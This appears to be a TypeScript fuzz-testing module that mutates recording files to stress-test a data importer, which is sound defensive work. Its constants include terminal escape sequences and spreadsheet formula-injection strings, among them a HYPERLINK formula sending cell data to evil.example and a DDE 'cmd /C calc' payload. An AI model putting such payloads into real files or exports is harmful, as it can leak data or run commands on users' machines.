import { Prng } from '../../core/simulate/prng';

/**
 * Ways a recording file arrives broken, each a pure function of the bytes and a seeded generator so any
 * failing case can be rebuilt from its seed. Text mutations work on lines and cells, byte mutations on bytes.
 */
export type Mutation = (bytes: Uint8Array, r: Prng) => Uint8Array;

const enc = new TextEncoder();
const dec = new TextDecoder('utf-8');

function text(f: (lines: string[], r: Prng) => string[]): Mutation {
  return (bytes, r) => {
    const s = dec.decode(bytes);
    const eol = s.includes('\r\n') ? '\r\n' : '\n';
    const lines = s.split(/\r?\n/);
    return enc.encode(f(lines, r).join(eol));
  };
}

/** Index of a line that holds data (digits and a delimiter), or -1. */
function dataLineIndex(lines: readonly string[], r: Prng): number {
  for (let tries = 0; tries < 20; tries++) {
    const i = r.int(0, lines.length - 1);
    if (/\d/.test(lines[i]) && /[,;\t ]/.test(lines[i])) return i;
  }
  return -1;
}

function delimiterOf(line: string): string {
  for (const d of [',', ';', '\t']) if (line.includes(d)) return d;
  return ' ';
}

function mapCells(line: string, f: (cell: string, c: number) => string): string {
  const d = delimiterOf(line);
  return line.split(d).map(f).join(d);
}

/** The header row: the last line before the first data line that has letters. */
function headerIndex(lines: readonly string[]): number {
  for (let i = 0; i < Math.min(lines.length, 60); i++) {
    if (/[A-Za-z]/.test(lines[i]) && /[,;\t]/.test(lines[i]) && i + 1 < lines.length && /^\s*[-\d"]/.test(lines[i + 1])) return i;
  }
  return -1;
}

const NOT_NUMBERS = ['NaN', 'nan', 'Inf', '-Inf', 'inf', 'Infinity', '-', '--', 'n/a', 'N/A', 'NA', 'null', '#VALUE!', '', ' ', '1e999', '-1e999', '1e-400', '0x1F', '1.2.3', '١٢', '∞', '"5"', '"', '1e', '.', '+', 'e5', '--5', '9'.repeat(400)];

export const MUTATIONS: Record<string, Mutation> = {
  truncateMidLine: (b, r) => b.slice(0, r.int(0, b.length)),
  truncateMidNumber: (b, r) => {
    const digits: number[] = [];
    for (let i = 0; i < b.length; i++) if (b[i] >= 48 && b[i] <= 57) digits.push(i);
    return digits.length ? b.slice(0, r.pick(digits) + 1) : b;
  },
  randomBytes: (b, r) => {
    const out = b.slice();
    const n = r.int(1, 16);
    for (let k = 0; k < n && out.length; k++) out[r.int(0, out.length - 1)] = r.int(0, 255);
    return out;
  },
  insertBytes: (b, r) => {
    const at = r.int(0, b.length);
    const junk = Uint8Array.from({ length: r.int(1, 64) }, () => r.int(0, 255));
    const out = new Uint8Array(b.length + junk.length);
    out.set(b.subarray(0, at), 0);
    out.set(junk, at);
    out.set(b.subarray(at), at + junk.length);
    return out;
  },
  binaryFile: (b, r) => {
    const magic = r.pick([[0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a], [0x50, 0x4b, 0x03, 0x04], [0x25, 0x50, 0x44, 0x46], [0x7f, 0x45, 0x4c, 0x46], []]);
    const body = Uint8Array.from({ length: r.int(0, Math.max(64, b.length)) }, () => r.int(0, 255));
    return Uint8Array.from([...magic, ...body]);
  },
  empty: () => new Uint8Array(0),
  whitespaceOnly: (_b, r) => enc.encode(r.pick(['\n', '\r\n\r\n', '   ', '\t\n\t', ',,,\n,,,\n', ';;\n'])),
  headerOnly: text((lines) => {
    const h = headerIndex(lines);
    return lines.slice(0, h >= 0 ? h + 1 : 1);
  }),
  swapDelimiters: text((lines, r) => {
    const [from, to] = r.pick([[',', ';'], [',', '\t'], [';', ','], ['\t', ','], [',', ' '], [',', '|']]);
    return lines.map((l) => l.split(from).join(to));
  }),
  mixDelimiters: text((lines, r) =>
    lines.map((l) => (r.next() < 0.3 ? l.replace(/[,;\t]/g, () => r.pick([',', ';', '\t', ' ', ', '])) : l)),
  ),
  mixDecimalMarks: text((lines, r) => lines.map((l) => (r.next() < 0.4 ? l.replace(/(\d)\.(\d)/g, (_m, a, c) => `${a}${r.next() < 0.5 ? ',' : '.'}${c}`) : l))),
  dropColumn: text((lines, r) => {
    const c = r.int(0, 6);
    const everyRow = r.next() < 0.5;
    return lines.map((l) => (everyRow || r.next() < 0.2 ? mapCells(l, (x, k) => (k === c ? '\u0000DROP' : x)).replace(/[,;\t ]?\u0000DROP/, '') : l));
  }),
  extraColumns: text((lines, r) => {
    const n = r.int(1, 5);
    const everyRow = r.next() < 0.5;
    return lines.map((l) => (everyRow || r.next() < 0.2 ? l + `${delimiterOf(l)}${r.int(-99, 99)}`.repeat(n) : l));
  }),
  shuffleRows: text((lines, r) => {
    const out = lines.slice();
    for (let k = 0; k < r.int(1, 10); k++) {
      const i = dataLineIndex(out, r);
      const j = dataLineIndex(out, r);
      if (i >= 0 && j >= 0) [out[i], out[j]] = [out[j], out[i]];
    }
    return out;
  }),
  duplicateRows: text((lines, r) => {
    const out = lines.slice();
    for (let k = 0; k < r.int(1, 10); k++) {
      const i = dataLineIndex(out, r);
      if (i >= 0) out.splice(i, 0, out[i]);
    }
    return out;
  }),
  reverseRows: text((lines) => {
    const h = Math.max(0, headerIndex(lines) + 1);
    return [...lines.slice(0, h), ...lines.slice(h).reverse()];
  }),
  timeJump: text((lines, r) => {
    const i = dataLineIndex(lines, r);
    if (i < 0) return lines;
    const jump = r.pick(['1e12', '1e300', '-1e12', '3600', '1e9', '4294967296']);
    const out = lines.slice();
    const span = r.next() < 0.5 ? 1 : out.length - i;
    for (let k = i; k < i + span && k < out.length; k++) out[k] = mapCells(out[k], (x, c) => (c === 0 && /^\s*-?\d/.test(x) ? `${Number(x) + Number(jump)}` : x));
    return out;
  }),
  badCells: text((lines, r) => {
    const out = lines.slice();
    for (let k = 0; k < r.int(1, 30); k++) {
      const i = dataLineIndex(out, r);
      if (i < 0) break;
      const c = r.int(0, 5);
      out[i] = mapCells(out[i], (x, j) => (j === c ? r.pick(NOT_NUMBERS) : x));
    }
    return out;
  }),
  badColumn: text((lines, r) => {
    const c = r.int(0, 4);
    const v = r.pick(NOT_NUMBERS);
    const h = headerIndex(lines);
    return lines.map((l, i) => (i > h && /\d/.test(l) ? mapCells(l, (x, j) => (j === c ? v : x)) : l));
  }),
  absurdRate: text((lines, r) => [`# rate_hz = ${r.pick(['0', '-5', '1e300', '1e-300', 'NaN', 'Infinity', '0.0000001', '99999999999', '2 kHz', ''])}`, ...lines.filter((l) => !/rate/i.test(l))]),
  scaleTime: text((lines, r) => {
    const f = r.pick([1e-9, 1e-6, 1e6, 1e12, 0, -1]);
    const h = headerIndex(lines);
    return lines.map((l, i) => (i > h ? mapCells(l, (x, c) => (c === 0 && /^\s*-?[\d.]+\s*$/.test(x) ? `${Number(x) * f}` : x)) : l));
  }),
  timeOnly: text((lines) => lines.map((l) => l.split(delimiterOf(l))[0])),
  oneChannel: text((lines) => lines.map((l) => l.split(delimiterOf(l)).slice(0, 2).join(delimiterOf(l)))),
  noTimeColumn: text((lines) => lines.map((l) => l.split(delimiterOf(l)).slice(1).join(delimiterOf(l)))),
  utf16: (b, r) => {
    const s = dec.decode(b);
    const le = r.next() < 0.5;
    const bom = r.next() < 0.7;
    const out = new Uint8Array((bom ? 2 : 0) + s.length * 2);
    let o = 0;
    if (bom) {
      out[o++] = le ? 0xff : 0xfe;
      out[o++] = le ? 0xfe : 0xff;
    }
    for (let i = 0; i < s.length; i++) {
      const c = s.charCodeAt(i);
      out[o++] = le ? c & 0xff : c >> 8;
      out[o++] = le ? c >> 8 : c & 0xff;
    }
    return r.next() < 0.2 ? out.subarray(0, out.length - 1) : out;
  },
  latin1: (b) => {
    const s = dec.decode(b).replace(/u?V\b/, 'µV');
    return Uint8Array.from(s, (ch) => Math.min(255, ch.charCodeAt(0)));
  },
  longHeader: text((lines, r) => {
    const h = Math.max(0, headerIndex(lines));
    const out = lines.slice();
    const d = delimiterOf(out[h] ?? ',');
    out[h] = r.next() < 0.5 ? `${out[h]}${d}${'very long label '.repeat(r.int(10, 2000))}(uV)` : `${out[h]}${Array.from({ length: r.int(10, 400) }, (_, i) => `${d}emg ${i} (uV)`).join('')}`;
    return out;
  }),
  manyComments: text((lines, r) => [...Array.from({ length: r.int(1, 600) }, (_, i) => `# note ${i} = ${'x'.repeat(r.int(0, 80))}`), ...lines]),
  lineEndings: text((lines, r) => [lines.join(r.pick(['\r', '\r\r\n', '\n\n', '\u2028']))]),
  bom: (b) => Uint8Array.from([0xef, 0xbb, 0xbf, ...b]),
  unbalancedQuote: text((lines, r) => {
    const i = dataLineIndex(lines, r);
    if (i < 0) return lines;
    const out = lines.slice();
    out[i] = r.next() < 0.5 ? `"${out[i]}` : out[i].replace(/[,;\t]/, (d) => `${d}"`);
    return out;
  }),
  quoteEverything: text((lines) => lines.map((l) => mapCells(l, (x) => `"${x}"`))),
  hugeValues: text((lines, r) => {
    const v = r.pick(['3.5e38', '-3.5e38', '1e308', '4e38', '-1e39', '3e38', '-3.4e38', '1e30', '1e-45', '123456789012345678901234567890']);
    const h = headerIndex(lines);
    return lines.map((l, i) => (i > h && r.next() < 0.3 ? mapCells(l, (x, c) => (c === 1 ? v : x)) : l));
  }),
  saturate: text((lines, r) => {
    const h = headerIndex(lines);
    const v = r.pick(['32767', '-32768', '1000', '2.5']);
    return lines.map((l, i) => (i > h && i % 7 < 4 ? mapCells(l, (x, c) => (c === 1 ? v : x)) : l));
  }),
  // Hostile inputs (issue 13): text meant for a terminal or a spreadsheet rather than a recording, a late line
  // of megabytes, and header values of the wrong type.
  controlChars: text((lines, r) => {
    const h = Math.max(0, headerIndex(lines));
    return lines.map((l, i) => (i === h || (i > h && r.next() < 0.05) ? mapCells(l, (x) => (r.next() < 0.5 ? `${x}${r.pick(CONTROL_TEXT)}` : x)) : l));
  }),
  formulaCells: text((lines, r) => {
    const h = Math.max(0, headerIndex(lines));
    return lines.map((l, i) => (i === h || (i > h && r.next() < 0.05) ? mapCells(l, (x, c) => (c > 0 && r.next() < 0.6 ? `${r.pick(FORMULAS)}${i === h ? ` ${x}` : ''}` : x)) : l));
  }),
  longLateLine: (b, r) => {
    // After the head (the importer detects the format on its first 400 lines), so the streaming scanner meets
    // the line: the seeds are a few KB, so their last line is repeated until the head is passed. The line is
    // up to 2 MiB long, either side of the scanner's 1 MiB limit.
    const ends: number[] = [];
    for (let i = 0; i < b.length; i++) if (b[i] === 10) ends.push(i + 1);
    if (ends.length < 2) return b;
    const last = b.subarray(ends[ends.length - 2], ends[ends.length - 1]);
    const repeats = Math.max(0, PAST_HEAD_LINES - ends.length);
    const at = repeats > 0 ? ends[ends.length - 1] : ends[r.int(PAST_HEAD_LINES - 1, ends.length - 1)];
    const long = new Uint8Array(r.int(64 * 1024, 2 * 1024 * 1024)).fill(r.pick([0x37, 0x78, 0x2c, 0x22, 0x20, 0x09]));
    const out = new Uint8Array(b.length + repeats * last.length + long.length + 1);
    out.set(b.subarray(0, at), 0);
    for (let k = 0; k < repeats; k++) out.set(last, at + k * last.length);
    const longAt = at + repeats * last.length;
    out.set(long, longAt);
    out[longAt + long.length] = 10;
    out.set(b.subarray(at), longAt + long.length + 1);
    return out;
  },
  headerFieldTypes: text((lines, r) => {
    const json = lines.findIndex((l, i) => i < 20 && /^#\s*\{/.test(l));
    if (json >= 0) {
      try {
        const header = JSON.parse(lines[json].replace(/^#\s*/, '')) as unknown;
        const out = lines.slice();
        out[json] = `# ${JSON.stringify(wrongTypes(header, r))}`;
        return out;
      } catch {
        return lines;
      }
    }
    // Other headers: the values of `key = value` or `key,value` lines among the first ones.
    return lines.map((l, i) => (i < 12 && /[=:,;\t]\s*-?[\d.]+/.test(l) && r.next() < 0.5 ? l.replace(/-?[\d.]+(?=\s*$|[,;\t])/, () => String(r.pick(WRONG_VALUES.map((v) => JSON.stringify(v) ?? 'undefined')))) : l));
  }),
};

/** Past the 400 lines the importer reads to detect the format (core/import/head.ts). */
const PAST_HEAD_LINES = 420;
const CONTROL_TEXT = ['\u001b[31m', '\u001b]0;owned\u0007', '\u0000', '\u0007', '\u009b2J', '\r', '\u001b[2J\u001b[H', '\u202e', '\u0008\u0008'];
const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '@SUM(1+1)', '-2+3', '+cmd|\' /C calc\'!A0', '\t=1+1', '=1,2', '"=2"'];
const WRONG_VALUES: unknown[] = [5000, -1, 0, 1e308, '16', 'abc', '', null, true, [], [1, 2], {}, { a: 1 }, ['x', 3], 'nan'];

/** A copy of a JSON header with some of its fields (at any depth) given values of the wrong type or range. */
function wrongTypes(v: unknown, r: Prng, depth = 0): unknown {
  if (Array.isArray(v)) return r.next() < 0.15 ? r.pick(WRONG_VALUES) : v.map((x) => wrongTypes(x, r, depth + 1));
  if (typeof v === 'object' && v !== null) {
    if (depth > 0 && r.next() < 0.05) return r.pick(WRONG_VALUES);
    return Object.fromEntries(Object.entries(v).map(([k, x]) => [k, r.next() < 0.2 ? r.pick(WRONG_VALUES) : wrongTypes(x, r, depth + 1)]));
  }
  return r.next() < 0.2 ? r.pick(WRONG_VALUES) : v;
}

export const MUTATION_NAMES = Object.keys(MUTATIONS);

/** Applies the named mutations in order, each with its own seed. */
export function mutate(bytes: Uint8Array, steps: readonly { name: string; seed: number }[]): Uint8Array {
  let out = bytes;
  for (const s of steps) out = MUTATIONS[s.name](out, new Prng(s.seed));
  return out;
}
